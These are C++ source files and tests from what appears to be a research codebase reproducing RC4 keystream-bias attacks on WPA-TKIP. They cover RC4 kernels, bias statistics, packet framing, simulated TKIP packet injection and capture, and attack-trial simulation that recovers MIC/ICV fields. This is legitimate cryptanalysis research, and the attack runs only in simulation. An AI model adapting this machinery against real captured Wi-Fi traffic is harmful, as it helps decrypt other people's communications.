  // `trailer` is TkipTrailer(peer, msdu); `seed` only drives the
  // model-sampling path. When `oracle` is false the model is not consulted.
  TrailerFrameSource(const TkipTscModel& model, bool oracle,
                     const TkipPeer& peer, const Bytes& msdu,
                     const Bytes& trailer, uint64_t initial_tsc, uint64_t seed);

  TkipFrame NextFrame();

 private:
  std::optional<ModelVictimSource> model_source_;
  std::optional<TkipInjectionSource> real_source_;
};

// Runs one simulated attack with the given per-trial generator (normally
// TrialRng(options.seed, trial)): victim setup, capture, and a rank
// evaluation at each checkpoint.
std::vector<TkipSimPoint> RunTkipTrial(const TkipTscModel& model,
                                       const TkipSimOptions& options,
                                       Xoshiro256& rng);

// Per-checkpoint aggregates over all trials, folded in trial order.
struct TkipSimAggregate {
  std::vector<uint64_t> checkpoints;
  uint64_t trials = 0;
  std::vector<uint64_t> budget_wins;  // [checkpoint] success_with_budget count
  std::vector<uint64_t> two_wins;     // [checkpoint] success_with_two count
  // [checkpoint][trial] first_icv_position, in trial order (Fig. 9 medians).
  std::vector<std::vector<double>> icv_positions;

  // Field-wise equality: the worker-count bit-exactness checks in tests/sim/
  // and bench_sim_trials compare whole aggregates with this.
  bool operator==(const TkipSimAggregate&) const = default;
};

// Runs options.trials simulated attacks across the thread pool. Bit-exact
// for any options.workers (including 1) at a fixed options.seed.
TkipSimAggregate RunTkipSimulations(const TkipTscModel& model,
                                    const TkipSimOptions& options);

}  // namespace rc4b::sim

#endif  // SRC_SIM_TKIP_SIM_H_
