// Concrete BiasAccumulator / StreamAccumulator implementations feeding the
// grids in src/stats/counters.h. These are the engine-side halves of every
// dataset in src/biases/dataset.h:
//
//   short-term (RunKeystreamEngine)        long-term (RunLongTermEngine)
//   ------------------------------------   ---------------------------------
//   SingleByteAccumulator   (Fig. 6)       LongTermDigraphAccumulator (Tab. 1)
//   ConsecutiveAccumulator  (Fig. 4/5)     AbsabAccumulator    (formula (1))
//   PairAccumulator         (Table 2)      AlignedPairAccumulator (form. (8))
//
// Shard sinks keep 16-bit worker tiles (short-term) or 32/64-bit shard-local
// blocks (long-term) in cache-aligned storage; merges into the final grid
// happen exactly once per shard.
#ifndef SRC_ENGINE_ACCUMULATORS_H_
#define SRC_ENGINE_ACCUMULATORS_H_

#include <cstdint>
#include <memory>
#include <utility>
#include <vector>

#include "src/engine/keystream_engine.h"
#include "src/stats/counters.h"

namespace rc4b {

// Counts of Z_r for 1 <= r <= positions (one count per key per position).
class SingleByteAccumulator : public BiasAccumulator {
 public:
  explicit SingleByteAccumulator(size_t positions)
      : positions_(positions), grid_(positions) {}

  size_t KeystreamLength() const override { return positions_; }
  std::unique_ptr<ShardSink> MakeShard() override;
  void MergeShard(ShardSink& shard, uint64_t keys) override;

  const SingleByteGrid& grid() const { return grid_; }
  SingleByteGrid TakeGrid() { return std::move(grid_); }

 private:
  size_t positions_;
  SingleByteGrid grid_;
};

// Counts of consecutive digraphs (Z_r, Z_{r+1}) for 1 <= r <= positions.
class ConsecutiveAccumulator : public BiasAccumulator {
 public:
  explicit ConsecutiveAccumulator(size_t positions)
      : positions_(positions), grid_(positions) {}

  size_t KeystreamLength() const override { return positions_ + 1; }
  std::unique_ptr<ShardSink> MakeShard() override;
  void MergeShard(ShardSink& shard, uint64_t keys) override;

  const DigraphGrid& grid() const { return grid_; }
  DigraphGrid TakeGrid() { return std::move(grid_); }

 private:
  size_t positions_;
  DigraphGrid grid_;
};

// Counts of (Z_a, Z_b) for arbitrary 1-based position pairs a < b; grid row p
// corresponds to pairs[p].
class PairAccumulator : public BiasAccumulator {
 public:
  explicit PairAccumulator(std::vector<std::pair<uint32_t, uint32_t>> pairs);

  size_t KeystreamLength() const override { return max_position_; }
  std::unique_ptr<ShardSink> MakeShard() override;
  void MergeShard(ShardSink& shard, uint64_t keys) override;

  const DigraphGrid& grid() const { return grid_; }
  DigraphGrid TakeGrid() { return std::move(grid_); }

 private:
  std::vector<std::pair<uint32_t, uint32_t>> pairs_;
  size_t max_position_;
  DigraphGrid grid_;
};

// Long-term digraphs (Z_r, Z_{r+1}) bucketed by (r - 1) mod 256 — row layout
// identical to GenerateLongTermDigraphDataset. grid().keys() counts digraph
// samples per row.
class LongTermDigraphAccumulator : public StreamAccumulator {
 public:
  LongTermDigraphAccumulator() : grid_(256) {}

  size_t Lookahead() const override { return 1; }
  std::unique_ptr<StreamShardSink> MakeShard() override;
  void MergeShard(StreamShardSink& shard, uint64_t keys,
                  uint64_t owned_per_key) override;

  const DigraphGrid& grid() const { return grid_; }
  DigraphGrid TakeGrid() { return std::move(grid_); }

 private:
  DigraphGrid grid_;
};

// ABSAB match counts per gap g in [0, max_gap]: position r matches when
// Z_r = Z_{r+g+2} and Z_{r+1} = Z_{r+g+3}.
class AbsabAccumulator : public StreamAccumulator {
 public:
  explicit AbsabAccumulator(uint64_t max_gap)
      : max_gap_(max_gap),
        matches_(max_gap + 1, 0),
        samples_(max_gap + 1, 0) {}

  size_t Lookahead() const override { return static_cast<size_t>(max_gap_) + 3; }
  std::unique_ptr<StreamShardSink> MakeShard() override;
  void MergeShard(StreamShardSink& shard, uint64_t keys,
                  uint64_t owned_per_key) override;

  const std::vector<uint64_t>& matches() const { return matches_; }
  const std::vector<uint64_t>& samples() const { return samples_; }

 private:
  uint64_t max_gap_;
  std::vector<uint64_t> matches_;
  std::vector<uint64_t> samples_;
};

// 256-aligned digraphs (Z_{256w + a}, Z_{256w + b}) for one offset pair
// 0 <= a < b < 256, relative to the paper's Z_{256w} block numbering.
class AlignedPairAccumulator : public StreamAccumulator {
 public:
  AlignedPairAccumulator(uint32_t offset_a, uint32_t offset_b)
      : offset_a_(offset_a), offset_b_(offset_b), counts_(65536, 0) {}

  size_t Lookahead() const override { return 0; }
  // Realign so that owned position 0 sits on the paper's Z_{256w} boundary
  // (with drop a positive multiple of 256, the first post-drop byte is
  // Z_{drop+1}; skipping 255 more makes it Z_{drop+256}).
  uint64_t ExtraDrop() const override { return 255; }
  std::unique_ptr<StreamShardSink> MakeShard() override;
  void MergeShard(StreamShardSink& shard, uint64_t keys,
                  uint64_t owned_per_key) override;

  const std::vector<uint64_t>& counts() const { return counts_; }
  std::vector<uint64_t> TakeCounts() { return std::move(counts_); }

 private:
  uint32_t offset_a_;
  uint32_t offset_b_;
  std::vector<uint64_t> counts_;
};

}  // namespace rc4b

#endif  // SRC_ENGINE_ACCUMULATORS_H_
