#include "src/crypto/crc32.h"

#include <gtest/gtest.h>

#include "src/common/bytes.h"
#include "src/common/rng.h"

namespace rc4b {
namespace {

// Canonical CRC-32 check value.
TEST(Crc32Test, CheckValue) {
  const Bytes data = FromString("123456789");
  EXPECT_EQ(Crc32(data), 0xcbf43926u);
}

TEST(Crc32Test, EmptyIsZero) {
  EXPECT_EQ(Crc32({}), 0u);
}

TEST(Crc32Test, SingleZeroByte) {
  const Bytes data = {0x00};
  EXPECT_EQ(Crc32(data), 0xd202ef8du);
}

TEST(Crc32Test, StreamingMatchesOneShot) {
  Xoshiro256 rng(99);
  Bytes data(300);
  rng.Fill(data);
  uint32_t state = Crc32Init();
  state = Crc32Update(state, std::span<const uint8_t>(data.data(), 100));
  state = Crc32Update(state, std::span<const uint8_t>(data.data() + 100, 200));
  EXPECT_EQ(Crc32Final(state), Crc32(data));
}

TEST(Crc32Test, SensitiveToEveryBit) {
  Bytes data = FromString("The Integrity Check Value");
  const uint32_t baseline = Crc32(data);
  for (size_t byte = 0; byte < data.size(); byte += 5) {
    for (int bit = 0; bit < 8; bit += 3) {
      Bytes mutated = data;
      mutated[byte] ^= static_cast<uint8_t>(1 << bit);
      EXPECT_NE(Crc32(mutated), baseline) << "byte " << byte << " bit " << bit;
    }
  }
}

// CRC linearity: crc(a XOR b XOR c) = crc(a) XOR crc(b) XOR crc(c) for
// equal-length inputs — the property that makes the WEP/TKIP ICV malleable
// and candidate pruning cheap.
TEST(Crc32Test, LinearityOverXor) {
  Xoshiro256 rng(4);
  Bytes a(64), b(64), zero(64, 0);
  rng.Fill(a);
  rng.Fill(b);
  const Bytes ab = Xor(a, b);
  EXPECT_EQ(Crc32(ab) ^ Crc32(zero), Crc32(a) ^ Crc32(b));
}

}  // namespace
}  // namespace rc4b
