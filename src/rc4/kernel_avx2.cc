// 256-bit transposed-lane RC4 kernel (32 lanes per group). Compiled with
// -mavx2 (see CMakeLists.txt); runtime dispatch only selects it when cpuid
// reports AVX2. One __m256i row holds byte v of all 32 lanes, so the j
// update and both index adds cover 32 streams per instruction. The output
// column S[S[i]+S[j]] is a vpgatherdd hardware gather (GatherRow below) and
// emit goes through the tiled transpose path (kernel_lanes.h); only the
// swap's lane-divergent writes stay scalar (no byte scatter exists).
// Without AVX2 at compile time (-mno-avx2 fallback build, or a non-x86
// target) the TU degrades to a stub the registry reports as not compiled in.
#include <memory>

#include "src/rc4/kernel.h"

#if defined(__AVX2__)

#include <immintrin.h>

#include "src/rc4/kernel_lanes.h"
#include "src/rc4/kernel_x86_tile.h"

namespace rc4b {
namespace {

struct Avx256 {
  static constexpr size_t kWidth = 32;
  using Reg = __m256i;
  static Reg Load(const uint8_t* p) {
    return _mm256_load_si256(reinterpret_cast<const __m256i*>(p));
  }
  static void Store(uint8_t* p, Reg v) {
    _mm256_store_si256(reinterpret_cast<__m256i*>(p), v);
  }
  static Reg Add8(Reg a, Reg b) { return _mm256_add_epi8(a, b); }
  static Reg Zero() { return _mm256_setzero_si256(); }
  static Reg Set1(uint8_t v) { return _mm256_set1_epi8(static_cast<char>(v)); }

  // Output-column gather (kernel_lanes.h): row[m] = st[idx[m] * 32 + m].
  // Four vpgatherdd over 8 lanes each read the wanted byte in the gathered
  // dword's low byte (dword reads overrun st by <= 3 bytes into the
  // kernel's gather_pad_), then a per-128-lane byte pick + cross-lane
  // permute packs the 8 low bytes back together.
  static void GatherRow(const uint8_t* st, const uint8_t* idx, uint8_t* row) {
    const __m256i lane = _mm256_setr_epi32(0, 1, 2, 3, 4, 5, 6, 7);
    const __m256i pick = _mm256_setr_epi8(
        0, 4, 8, 12, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1,
        0, 4, 8, 12, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1, -1);
    for (int g = 0; g < 4; ++g) {
      const __m256i iv = _mm256_cvtepu8_epi32(
          _mm_loadl_epi64(reinterpret_cast<const __m128i*>(idx + 8 * g)));
      const __m256i offsets = _mm256_add_epi32(
          _mm256_slli_epi32(iv, 5),
          _mm256_add_epi32(lane, _mm256_set1_epi32(8 * g)));
      const __m256i dwords = _mm256_i32gather_epi32(
          reinterpret_cast<const int*>(st), offsets, 1);
      const __m256i bytes = _mm256_shuffle_epi8(dwords, pick);
      const __m256i packed = _mm256_permutevar8x32_epi32(
          bytes, _mm256_setr_epi32(0, 4, 1, 1, 1, 1, 1, 1));
      _mm_storel_epi64(reinterpret_cast<__m128i*>(row + 8 * g),
                       _mm256_castsi256_si128(packed));
    }
  }

  static void Transpose16x16(const uint8_t* src, size_t src_stride, uint8_t* dst,
                             size_t dst_stride) {
    TransposeBlock16x16(src, src_stride, dst, dst_stride);
  }
};

}  // namespace

bool Avx2KernelCompiled() { return true; }

std::unique_ptr<Rc4LaneKernel> MakeAvx2Kernel(size_t width) {
  if (width != Avx256::kWidth) {
    return nullptr;
  }
  return std::make_unique<TransposedLaneKernel<Avx256>>();
}

}  // namespace rc4b

#else  // !defined(__AVX2__)

namespace rc4b {

bool Avx2KernelCompiled() { return false; }

std::unique_ptr<Rc4LaneKernel> MakeAvx2Kernel(size_t /*width*/) { return nullptr; }

}  // namespace rc4b

#endif  // defined(__AVX2__)
