// Bench-driven RC4 kernel autotuner (src/rc4/autotune.h).
//
// Sweeps every available lane kernel over its supported widths and a set of
// engine batch sizes, verifies each kernel bit-exact against the scalar Rc4
// oracle, times the survivors through the real RunKeystreamEngine, and
// reports the fastest configuration. Typical use, once per machine before a
// generation campaign (docs/store.md):
//
//   tools/autotune --cache ~/.rc4b-autotune
//   export RC4B_AUTOTUNE_CACHE=~/.rc4b-autotune   # engines now consume it
//
// --list prints the kernel registry with availability on this host (CI uses
// it to decide which RC4B_KERNEL values it can force on a runner), without
// running the sweep. The sweep also writes BENCH_autotune.json
// (bench/harness.h) so nightly CI tracks every candidate's rate alongside
// the other perf trajectories.
//
// Exit status: 0 on success; 1 if any available kernel FAILS bit-exactness
// (a miscompiled kernel must fail the build loudly, not just lose the race)
// or no candidate could be tuned.
#include <cstdio>
#include <string>
#include <vector>

#include "bench/harness.h"
#include "src/common/flags.h"
#include "src/rc4/autotune.h"
#include "src/rc4/kernel_registry.h"

namespace rc4b {
namespace {

std::vector<size_t> ParseBatchSizes(const std::string& text) {
  std::vector<size_t> sizes;
  size_t start = 0;
  while (start <= text.size()) {
    size_t comma = text.find(',', start);
    if (comma == std::string::npos) {
      comma = text.size();
    }
    const std::string item = text.substr(start, comma - start);
    if (!item.empty()) {
      const unsigned long long value = std::strtoull(item.c_str(), nullptr, 0);
      if (value == 0) {
        std::fprintf(stderr, "autotune: bad --batches entry '%s'\n", item.c_str());
        std::exit(2);
      }
      sizes.push_back(static_cast<size_t>(value));
    }
    start = comma + 1;
  }
  return sizes;
}

void PrintRegistry() {
  std::printf("%-8s %-10s %-10s %-10s %s\n", "kernel", "available", "preferred",
              "features", "widths");
  for (const KernelDesc& kernel : KernelRegistry()) {
    std::string widths;
    for (const size_t w : kernel.widths) {
      if (!widths.empty()) {
        widths.push_back(',');
      }
      widths += std::to_string(w);
    }
    std::printf("%-8.*s %-10s %-10zu %-10.*s %s\n",
                static_cast<int>(kernel.name.size()), kernel.name.data(),
                kernel.Available() ? "yes" : "no", kernel.preferred_width,
                static_cast<int>(kernel.features.size()), kernel.features.data(),
                widths.c_str());
  }
  std::printf("cpu: %s\n", CpuFeatureString().c_str());
}

int Run(int argc, char** argv) {
  FlagSet flags(
      "Sweeps (kernel, width, batch_keys), keeps bit-exact configurations, "
      "and caches the fastest for the keystream engines");
  flags.Define("list", "false",
               "print the kernel registry + availability and exit")
      .Define("cache", "",
              "write the winning choice here (consumed via "
              "$RC4B_AUTOTUNE_CACHE)")
      .Define("keys-per-probe", "0x8000", "keys generated per timing probe")
      .Define("length", "256", "keystream bytes per key while timing")
      .Define("repeats", "3", "probes per candidate (best is kept)")
      .Define("seed", "1", "keygen + verification seed")
      .Define("batches", "64,256,1024",
              "comma-separated batch_keys values to sweep");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }
  if (flags.GetBool("list")) {
    PrintRegistry();
    return 0;
  }

  AutotuneOptions options;
  options.keys_per_probe = flags.GetUint("keys-per-probe");
  options.keystream_length = static_cast<size_t>(flags.GetUint("length"));
  options.repeats = static_cast<int>(flags.GetInt("repeats"));
  options.seed = flags.GetUint("seed");
  options.batch_sizes = ParseBatchSizes(flags.GetString("batches"));

  std::printf("autotune: host=%s cpu=%s keys/probe=%llu repeats=%d\n\n",
              AutotuneHostname().c_str(), CpuFeatureString().c_str(),
              static_cast<unsigned long long>(options.keys_per_probe),
              options.repeats);

  bench::JsonTrajectory json("autotune");
  json.Add("keys_per_probe", options.keys_per_probe);
  json.Add("cpu_features", CpuFeatureString());

  const auto results = RunAutotuneSweep(options, KernelRegistry());
  std::printf("%-8s %6s %11s %14s %s\n", "kernel", "width", "batch_keys",
              "ks/s", "bit-exact");
  bool any_mismatch = false;
  for (const AutotuneResult& result : results) {
    std::printf("%-8s %6zu %11zu %14.0f %s\n", result.candidate.kernel.c_str(),
                result.candidate.width, result.candidate.batch_keys,
                result.ks_per_s, result.bit_exact ? "OK" : "FAILED");
    any_mismatch |= !result.bit_exact;
    const std::string point = result.candidate.kernel + "_w" +
                              std::to_string(result.candidate.width) + "_b" +
                              std::to_string(result.candidate.batch_keys);
    json.Add(point + "_ks_per_s", result.ks_per_s);
  }

  const auto best = PickBestChoice(results);
  if (!best) {
    std::fprintf(stderr, "\nautotune: no bit-exact candidate — refusing to pick\n");
    json.Write();
    return 1;
  }
  const double scalar_baseline =
      results.empty() ? 0.0 : results.front().ks_per_s;
  std::printf("\nbest: kernel=%s width=%zu batch_keys=%zu (%.0f ks/s",
              best->kernel.c_str(), best->width, best->batch_keys,
              best->ks_per_s);
  if (scalar_baseline > 0.0) {
    std::printf(", %.2fx over scalar width 1", best->ks_per_s / scalar_baseline);
  }
  std::printf(")\n");
  json.RecordKernel(best->kernel, best->cpu_features);
  json.Add("best_width", static_cast<uint64_t>(best->width));
  json.Add("best_batch_keys", static_cast<uint64_t>(best->batch_keys));
  json.Add("best_ks_per_s", best->ks_per_s);
  json.Write();

  const std::string cache = flags.GetString("cache");
  if (!cache.empty()) {
    if (const IoStatus status = SaveAutotuneChoice(cache, *best); !status.ok()) {
      std::fprintf(stderr, "autotune: %s\n", status.message().c_str());
      return 1;
    }
    std::printf("cached to %s (export RC4B_AUTOTUNE_CACHE=%s)\n", cache.c_str(),
                cache.c_str());
  }

  if (any_mismatch) {
    std::fprintf(stderr,
                 "\nautotune: an available kernel FAILED bit-exactness — "
                 "this build must not ship\n");
    return 1;
  }
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
