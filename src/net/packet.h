// Minimal LLC/SNAP + IPv4 + TCP framing — the plaintext structure of the
// packet the TKIP attack injects (Fig. 2 of the paper: a TCP payload behind
// 48 bytes of LLC/SNAP, IP and TCP headers).
//
// The attack exploits this structure twice: the headers are (mostly) known
// plaintext, and the IP/TCP checksums let candidate pruning recover the few
// unknown header fields (internal IP/port, TTL) — Sect. 5.3.
#ifndef SRC_NET_PACKET_H_
#define SRC_NET_PACKET_H_

#include <array>
#include <cstdint>
#include <span>

#include "src/common/bytes.h"

namespace rc4b {

// 8-byte LLC/SNAP header carrying an IPv4 ethertype.
struct LlcSnapHeader {
  static constexpr size_t kSize = 8;
  uint16_t ethertype = 0x0800;  // IPv4

  Bytes Serialize() const;
};

// 20-byte IPv4 header (no options).
struct Ipv4Header {
  static constexpr size_t kSize = 20;

  uint8_t ttl = 64;
  uint8_t protocol = 6;  // TCP
  uint32_t source = 0;
  uint32_t destination = 0;
  uint16_t identification = 0;
  uint16_t total_length = 0;  // filled by Serialize if 0

  // Serializes with a correct header checksum. `payload_length` is the number
  // of bytes after this header (TCP header + data).
  Bytes Serialize(size_t payload_length) const;
};

// 20-byte TCP header (no options).
struct TcpHeader {
  static constexpr size_t kSize = 20;

  uint16_t source_port = 0;
  uint16_t destination_port = 0;
  uint32_t sequence = 0;
  uint32_t acknowledgement = 0;
  uint8_t flags = 0x18;  // PSH | ACK
  uint16_t window = 0x2000;

  // Serializes with a correct checksum over the IPv4 pseudo-header and data.
  Bytes Serialize(const Ipv4Header& ip, std::span<const uint8_t> data) const;
};

// RFC 1071 internet checksum (used for both the IP header checksum and the
// TCP checksum with pseudo-header).
uint16_t InternetChecksum(std::span<const uint8_t> data);

// True iff an IPv4 header (20 bytes) has a valid checksum.
bool VerifyIpv4Checksum(std::span<const uint8_t> header);

// True iff a TCP segment (header + data) checksums correctly against the
// addresses in the given serialized IPv4 header.
bool VerifyTcpChecksum(std::span<const uint8_t> ip_header,
                       std::span<const uint8_t> tcp_segment);

// Builds the full injected plaintext: LLC/SNAP || IPv4 || TCP || payload.
// This is the 48-byte header block of Fig. 2 plus the TCP payload.
Bytes BuildTcpPacket(const LlcSnapHeader& llc, Ipv4Header ip, const TcpHeader& tcp,
                     std::span<const uint8_t> payload);

}  // namespace rc4b

#endif  // SRC_NET_PACKET_H_
