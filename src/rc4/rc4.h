// RC4 stream cipher: Key Scheduling Algorithm (KSA) and Pseudo Random
// Generation Algorithm (PRGA), exactly as in Fig. 1 of the paper.
//
// This is the object under attack; everything else in the repository either
// measures its keystream distribution or exploits it.
#ifndef SRC_RC4_RC4_H_
#define SRC_RC4_RC4_H_

#include <array>
#include <cstdint>
#include <span>

#include "src/common/bytes.h"

namespace rc4b {

class Rc4 {
 public:
  // Runs the KSA over `key` (1..256 bytes; the paper uses 16-byte keys).
  explicit Rc4(std::span<const uint8_t> key);

  // Returns the next keystream byte Z_{r+1} (positions are 1-based in the
  // paper; the first call returns Z_1).
  uint8_t Next() {
    i_ = static_cast<uint8_t>(i_ + 1);
    j_ = static_cast<uint8_t>(j_ + s_[i_]);
    const uint8_t si = s_[i_];
    s_[i_] = s_[j_];
    s_[j_] = si;
    return s_[static_cast<uint8_t>(s_[i_] + s_[j_])];
  }

  // Fills `out` with keystream bytes.
  void Keystream(std::span<uint8_t> out) {
    for (auto& b : out) {
      b = Next();
    }
  }

  // XORs keystream into plaintext (encrypt == decrypt).
  void Process(std::span<const uint8_t> in, std::span<uint8_t> out) {
    for (size_t k = 0; k < in.size(); ++k) {
      out[k] = static_cast<uint8_t>(in[k] ^ Next());
    }
  }

  // Discards `n` keystream bytes (e.g. RC4-drop[n] experiments).
  void Skip(uint64_t n) {
    for (uint64_t k = 0; k < n; ++k) {
      Next();
    }
  }

  // Public PRGA counter i; long-term digraph biases are conditioned on it
  // (Table 1 in the paper).
  uint8_t CounterI() const { return i_; }

  // Read-only view of the permutation (used by state-evolution tests).
  const std::array<uint8_t, 256>& State() const { return s_; }

 private:
  std::array<uint8_t, 256> s_;
  uint8_t i_ = 0;
  uint8_t j_ = 0;
};

}  // namespace rc4b

#endif  // SRC_RC4_RC4_H_
