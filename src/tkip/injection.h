// Packet-injection simulation (Sect. 5.2) and ciphertext-statistics capture.
//
// In the paper's live attack, a malicious server retransmits one identical
// TCP packet ~2500 times per second to the victim; the attacker sniffs the
// Wi-Fi side and collects one TKIP-encrypted copy per TSC. This module plays
// both roles in-process: it encrypts the same MSDU under incrementing TSCs
// with the *real* TKIP key mixing and RC4, and accumulates exactly the
// statistics the attacker would extract from captured frames — per-TSC1
// counts of the ciphertext bytes covering the unknown MIC and ICV fields.
#ifndef SRC_TKIP_INJECTION_H_
#define SRC_TKIP_INJECTION_H_

#include <cstdint>
#include <memory>
#include <vector>

#include "src/common/bytes.h"
#include "src/tkip/frame.h"

namespace rc4b {

// Ciphertext byte counts at positions [first_position, last_position]
// (1-based within the encrypted MSDU||MIC||ICV), bucketed by the TSC1 byte
// of the frame's public sequence counter.
class TkipCaptureStats {
 public:
  TkipCaptureStats(size_t first_position, size_t last_position);

  size_t first_position() const { return first_position_; }
  size_t last_position() const { return last_position_; }
  size_t position_count() const { return last_position_ - first_position_ + 1; }
  uint64_t frames() const { return frames_; }

  // Returns false — and records nothing — if the frame's ciphertext does not
  // cover last_position().
  bool AddFrame(const TkipFrame& frame);

  const uint64_t* Row(uint8_t tsc1, size_t pos) const {
    return counts_.data() + (static_cast<size_t>(tsc1) * position_count() +
                             (pos - first_position_)) *
                                256;
  }

  void Merge(const TkipCaptureStats& other);

 private:
  size_t first_position_;
  size_t last_position_;
  uint64_t frames_ = 0;
  std::vector<uint64_t> counts_;  // [tsc1][pos][byte]
};

// A "perfect-model" victim for Fig. 8/9-style simulations: keystream bytes
// at the trailer positions are drawn from a TkipTscModel's per-TSC1
// distributions instead of running the full cipher. Useful because an honest
// attacker model at the trailer positions needs ~2^36 keys (the paper's
// cluster scale; see DESIGN.md) — this mode evaluates the attack machinery
// in the perfect-information limit at any --keys-per-tsc budget, while
// TkipInjectionSource below provides the fully faithful path.
class ModelVictimSource {
 public:
  // `plaintext` is the fixed MSDU||MIC||ICV; only positions
  // [model.first_position(), model.last_position()] of the emitted frames
  // carry meaningful ciphertext (the rest is zero-filled).
  ModelVictimSource(const class TkipTscModel& model, Bytes plaintext,
                    uint64_t initial_tsc, uint64_t seed);
  ~ModelVictimSource();

  TkipFrame NextFrame();

 private:
  struct Impl;
  std::unique_ptr<Impl> impl_;
};

// A transmitting victim: encrypts one fixed MSDU under incrementing TSCs.
// Mirrors the attack setup where the injected TCP packet never changes but
// every retransmission uses a fresh per-packet RC4 key.
class TkipInjectionSource {
 public:
  TkipInjectionSource(TkipPeer peer, Bytes msdu, uint64_t initial_tsc = 1);

  // Encrypts and returns the next frame (TSC auto-increments).
  TkipFrame NextFrame();

  const TkipPeer& peer() const { return peer_; }
  const Bytes& msdu() const { return msdu_; }
  uint64_t tsc() const { return tsc_; }

 private:
  TkipPeer peer_;
  Bytes msdu_;
  uint64_t tsc_;
  TkipPhase1Key phase1_{};
  uint32_t phase1_iv32_ = 0;
  bool phase1_valid_ = false;
  Bytes plaintext_;  // MSDU || MIC || ICV, fixed across frames
};

}  // namespace rc4b

#endif  // SRC_TKIP_INJECTION_H_
