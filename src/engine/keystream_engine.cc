#include "src/engine/keystream_engine.h"

#include <algorithm>
#include <cassert>
#include <cstring>
#include <mutex>
#include <vector>

#include "src/common/thread_pool.h"
#include "src/rc4/keygen.h"
#include "src/rc4/rc4.h"
#include "src/stats/counters.h"

namespace rc4b {

void RunKeystreamEngine(const EngineOptions& options, BiasAccumulator& accumulator) {
  const size_t length = accumulator.KeystreamLength();
  assert(length > 0);
  const size_t batch_keys = std::max<size_t>(options.batch_keys, 1);
  std::mutex merge_mutex;
  ParallelChunks(options.keys, options.workers,
                 [&](unsigned /*shard*/, uint64_t begin, uint64_t end) {
    // All shards draw from the same AES-CTR stream: key k is key number k
    // regardless of how [0, keys) was chunked, which makes the merged
    // statistics invariant under the worker count.
    Rc4KeyGenerator keygen(options.seed);
    keygen.Seek(begin);
    std::unique_ptr<ShardSink> sink;
    {
      std::lock_guard<std::mutex> lock(merge_mutex);
      sink = accumulator.MakeShard();
    }
    AlignedVector<uint8_t> buffer(batch_keys * length, 0);
    for (uint64_t k = begin; k < end;) {
      const size_t rows =
          static_cast<size_t>(std::min<uint64_t>(batch_keys, end - k));
      for (size_t r = 0; r < rows; ++r) {
        Rc4 rc4(keygen.NextKey());
        if (options.drop != 0) {
          rc4.Skip(options.drop);
        }
        rc4.Keystream(std::span<uint8_t>(buffer.data() + r * length, length));
      }
      sink->Consume(KeystreamBatch{buffer.data(), rows, length});
      k += rows;
    }
    std::lock_guard<std::mutex> lock(merge_mutex);
    accumulator.MergeShard(*sink, end - begin);
  });
}

void RunLongTermEngine(const LongTermEngineOptions& options,
                       StreamAccumulator& accumulator) {
  const size_t lookahead = accumulator.Lookahead();
  const size_t chunk = std::max<size_t>(options.chunk_bytes, 256);
  assert(chunk % 256 == 0);
  // bytes_per_key rounds down to whole 256-byte blocks only; a trailing
  // window smaller than chunk_bytes is processed separately so the chunk
  // size never changes the sample count.
  const uint64_t owned_per_key = options.bytes_per_key / 256 * 256;
  const uint64_t full_chunks = owned_per_key / chunk;
  const size_t tail = static_cast<size_t>(owned_per_key % chunk);
  std::mutex merge_mutex;
  ParallelChunks(options.keys, options.workers,
                 [&](unsigned /*shard*/, uint64_t begin, uint64_t end) {
    Rc4KeyGenerator keygen(options.seed);
    keygen.Seek(begin);
    std::unique_ptr<StreamShardSink> sink;
    {
      std::lock_guard<std::mutex> lock(merge_mutex);
      sink = accumulator.MakeShard();
    }
    std::vector<uint8_t> buffer(chunk + lookahead);
    for (uint64_t k = begin; k < end; ++k) {
      Rc4 rc4(keygen.NextKey());
      rc4.Skip(options.drop + accumulator.ExtraDrop());
      sink->BeginKey();
      // Prime the lookahead, then slide: each window owns `chunk` positions
      // and carries `lookahead` context bytes into the next window.
      rc4.Keystream(std::span<uint8_t>(buffer.data(), lookahead));
      for (uint64_t c = 0; c < full_chunks; ++c) {
        rc4.Keystream(std::span<uint8_t>(buffer.data() + lookahead, chunk));
        sink->ConsumeChunk(buffer, chunk);
        if (lookahead != 0) {
          std::memmove(buffer.data(), buffer.data() + chunk, lookahead);
        }
      }
      if (tail != 0) {
        rc4.Keystream(std::span<uint8_t>(buffer.data() + lookahead, tail));
        sink->ConsumeChunk(std::span<const uint8_t>(buffer.data(), tail + lookahead),
                           tail);
      }
    }
    std::lock_guard<std::mutex> lock(merge_mutex);
    accumulator.MergeShard(*sink, end - begin, owned_per_key);
  });
}

}  // namespace rc4b
