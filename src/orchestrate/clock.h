// Injectable time source for lease heartbeats and retry scheduling.
// Heartbeat staleness is a wall-clock concept (hosts compare timestamps
// other hosts wrote), which the determinism lint otherwise bans — so the
// real clock lives behind this interface with a single lint:allow at the
// seam (clock.cc), and every test drives a ManualClock instead.
#ifndef SRC_ORCHESTRATE_CLOCK_H_
#define SRC_ORCHESTRATE_CLOCK_H_

#include <cstdint>

namespace rc4b::orchestrate {

class Clock {
 public:
  virtual ~Clock() = default;
  // Milliseconds on an epoch shared by every process of the campaign.
  virtual uint64_t NowMs() = 0;
};

// The real clock (process-shared epoch). The one place the orchestrator
// reads wall-clock time.
class SystemClock : public Clock {
 public:
  static SystemClock& Instance();
  uint64_t NowMs() override;
};

// Test clock: time moves only when the test says so, making lease expiry
// and backoff deterministic.
class ManualClock : public Clock {
 public:
  explicit ManualClock(uint64_t start_ms = 0) : now_ms_(start_ms) {}
  uint64_t NowMs() override { return now_ms_; }
  void Advance(uint64_t delta_ms) { now_ms_ += delta_ms; }
  void Set(uint64_t now_ms) { now_ms_ = now_ms; }

 private:
  uint64_t now_ms_;
};

}  // namespace rc4b::orchestrate

#endif  // SRC_ORCHESTRATE_CLOCK_H_
