// Parameterized property sweeps over candidate-list generation: Algorithm 1,
// the lazy enumerator, and Algorithm 2 must agree with exhaustive N-best for
// a range of list sizes, lengths and alphabet sizes.
#include <algorithm>
#include <vector>

#include <gtest/gtest.h>

#include "src/common/rng.h"
#include "src/core/candidates.h"

namespace rc4b {
namespace {

SingleByteTables RandomSingleTables(size_t length, uint64_t seed) {
  Xoshiro256 rng(seed);
  SingleByteTables tables(length, std::vector<double>(256));
  for (auto& table : tables) {
    for (auto& v : table) {
      v = -rng.UnitDouble() * 7.0;
    }
  }
  return tables;
}

struct SweepParam {
  size_t length;
  size_t n;
};

